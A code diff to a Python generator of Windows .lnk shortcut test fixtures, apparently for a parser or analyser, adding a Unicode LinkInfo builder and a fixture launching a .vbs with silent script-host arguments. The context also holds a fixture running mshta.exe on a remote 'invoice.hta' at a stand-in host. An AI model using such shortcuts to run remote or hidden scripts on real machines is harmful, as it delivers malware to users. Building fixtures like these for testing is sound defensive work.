@@ -65,6 +65,23 @@ def link_info_local(drive_type, serial, label, base, suffix=""):
     size = header + len(tail)
     return struct.pack("<IIIIIII", size, header, 1, vol_off, base_off, 0, suffix_off) + tail
 
+def link_info_local_unicode(drive_type, serial, label, base):
+    # Header 0x24 with Unicode offsets; the volume label Unicode too (label offset 0x14).
+    label_w = label.encode("utf-16-le") + b"\0\0"
+    vol_body = struct.pack("<IIII", drive_type, serial, 0x14, 0x14) + label_w
+    vol = struct.pack("<I", len(vol_body) + 4) + vol_body
+    header = 0x24
+    vol_off = header
+    base_off = vol_off + len(vol)
+    ansi = base.encode("cp1252", "replace") + b"\0"
+    suffix_off = base_off + len(ansi)
+    base_w_off = suffix_off + 1
+    wide = base.encode("utf-16-le") + b"\0\0"
+    suffix_w_off = base_w_off + len(wide)
+    tail = vol + ansi + b"\0" + wide + b"\0\0"
+    size = header + len(tail)
+    return struct.pack("<IIIIIIIII", size, header, 1, vol_off, base_off, 0, suffix_off, base_w_off, suffix_w_off) + tail
+
 def link_info_network(share, device, suffix):
     net = share.encode() + b"\0"
     dev = device.encode() + b"\0"
@@ -163,6 +180,10 @@ lnk("mshta-url.lnk", ["idlist", "args", "unicode"], attributes=0x20,
     idlist=[root_item(), volume_item("C"), file_item("Windows", "Windows", True), file_item("System32", "System32", True),
             file_item("mshta.exe", "mshta.exe", size=14336)],
     strings=["https://example.invalid/invoice.hta"])
+
+lnk("unicode-info.lnk", ["linkinfo", "args", "unicode"], attributes=0x20,
+    info=link_info_local_unicode(3, 0x0BADF00D, "Données", "C:\\Users\\Zoë\\Documents\\résumé.vbs"),
+    strings=["//B //E:vbscript"])
 
 lnk("folder-ansi.lnk", ["linkinfo", "workdir"], attributes=0x10,
     info=link_info_local(2, 0x00C0FFEE, "USBKEY", "E:\\", "Photos"),
